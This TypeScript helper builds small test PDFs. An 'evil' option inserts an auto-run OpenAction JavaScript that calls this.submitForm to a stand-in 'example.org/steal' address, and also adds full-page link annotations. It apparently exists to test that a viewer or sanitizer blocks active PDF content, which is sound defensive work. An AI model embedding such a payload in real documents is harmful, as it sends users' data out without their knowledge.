/** A PDF made here: so many pages, each with its words; and with what a page may not do. */
export function pdf(pages: readonly string[], { evil = false, media = '0 0 300 400' } = {}): Buffer {
  const script = "app.alert('run'); this.submitForm('https://example.org/steal');";
  const objects = [
    `<< /Type /Catalog /Pages 2 0 R${evil ? ` /OpenAction << /S /JavaScript /JS (${script.replace(/[()]/g, '\\$&')}) >>` : ''} >>`,
    `<< /Type /Pages /Count ${pages.length} /Kids [${pages.map((_, at) => `${4 + at * 2} 0 R`).join(' ')}] >>`,
    '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>',
    ...pages.flatMap((words, at) => {
      const text = `1 0.9 0.7 rg 0 0 300 400 re f 0.6 0.1 0.1 rg 40 240 220 90 re f 0 g BT /F1 32 Tf 60 120 Td (${words}) Tj ET`;
      const link = evil
        ? ' /Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 300 400] /A << /S /URI /URI (https://example.org/) >> >>]'
        : '';
      return [
        `<< /Type /Page /Parent 2 0 R /MediaBox [${media}] /Resources << /Font << /F1 3 0 R >> >> /Contents ${5 + at * 2} 0 R${link} >>`,
        `<< /Length ${text.length} >>\nstream\n${text}\nendstream`,
      ];
    }),
  ];
  let file = '%PDF-1.7\n';
  const starts: number[] = [];
  for (const [at, object] of objects.entries()) {
    starts.push(file.length);
    file += `${at + 1} 0 obj\n${object}\nendobj\n`;
  }
  const table = starts.map((start) => `${String(start).padStart(10, '0')} 00000 n \n`).join('');
  const end = `xref\n0 ${objects.length + 1}\n0000000000 65535 f \n${table}trailer\n<< /Size ${objects.length + 1} /Root 1 0 R >>\nstartxref\n${file.length}\n%%EOF\n`;
  return Buffer.from(file + end, 'latin1');
}
